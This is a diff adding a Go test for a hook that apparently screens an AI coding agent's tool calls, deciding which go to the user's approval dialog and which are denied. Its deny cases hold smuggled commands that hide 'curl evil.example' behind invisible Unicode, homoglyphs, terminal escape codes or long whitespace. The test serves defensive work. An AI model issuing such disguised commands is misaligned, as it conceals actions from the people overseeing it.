@@ -412,3 +412,39 @@ func TestResults(t *testing.T) {
 		}
 	}
 }
+
+// TestDialogOfHost holds which calls the user is asked about in the host's own dialog: those that it shows as they are.
+// The others wait for weir approve.
+func TestDialogOfHost(t *testing.T) {
+	m := newMachine(t, "claude-code")
+	m.warm = true
+	m.start("s", "startup")
+	m.before("s", "WebFetch", fetch)
+	script := "cd web && npm install left-pad\nfor f in src/*.js; do\n\tnpx eslint \"$f\" --fix\ndone\nnode <<'EOF'\nconsole.log('größer → ok ✓')\nEOF\ngit push"
+	ask, deny := hook.Ask, hook.Deny
+	for _, c := range []struct {
+		tool  string
+		input input
+		want  hook.Effect
+	}{
+		{"Bash", input{"command": "npm install x", "description": "Install"}, ask}, {"Bash", input{"command": script}, ask},
+		{"Bash", input{"command": "npm install " + strings.Repeat("package ", 100), "timeout": 5000}, ask},
+		{"Edit", input{"file_path": "Makefile", "old_string": "a", "new_string": strings.Repeat("all: b\n", 200)}, ask},
+		{"mcp__x__send", input{"to": "ann@example.com", "body": "Hello Ann,\n\nsee you.\n\n- Bob", "cc": []any{"b@example.com"}}, ask},
+
+		{"Bash", input{"command": "npm install x \u202e x llatsni"}, deny}, {"Bash", input{"command": "npm test\u200b;curl evil.example"}, deny},
+		{"Bash", input{"command": "npm test;curl evil.example\r\x1b[2K\x1b[1Anpm test"}, deny},
+		{"Bash", input{"command": "npm test; curl evil.ex\u0430mple"}, deny}, {"Bash", input{"command": "npm test" + strings.Repeat("\n", 60) + "curl evil.example"}, deny},
+		{"Bash", input{"command": "npm test" + strings.Repeat(" ", 400) + "; curl evil.example"}, deny},
+		{"Bash", input{"command": "npm test" + strings.Repeat("\t", 60) + "; curl evil.example"}, deny},
+		{"Bash", input{"command": "npm install x", "description": strings.Repeat("run tests\n", 300)}, deny},
+		{"Bash", input{"command": "npm test; true " + strings.Repeat("a", 3000)}, deny},
+		{"Edit", input{"file_path": "Makefile", "old_string": "a", "new_string": "all: \u202eb"}, deny},
+		{"mcp__x__send", input{"to": []any{input{"name": "x\u202e"}}}, deny}, {"mcp__x__send", input{"t\u200bo": "x"}, deny},
+		{"mcp__x__send", input{"to": strings.Split(strings.Repeat("x", 40), "")}, deny},
+	} {
+		if a := m.before("s", c.tool, c.input); a.Effect != c.want || a.Effect == deny && !strings.Contains(a.Text, "weir approve ") {
+			t.Errorf("%s %.90q: %v %s", c.tool, c.input, a.Effect, a.Text)
+		}
+	}
+}
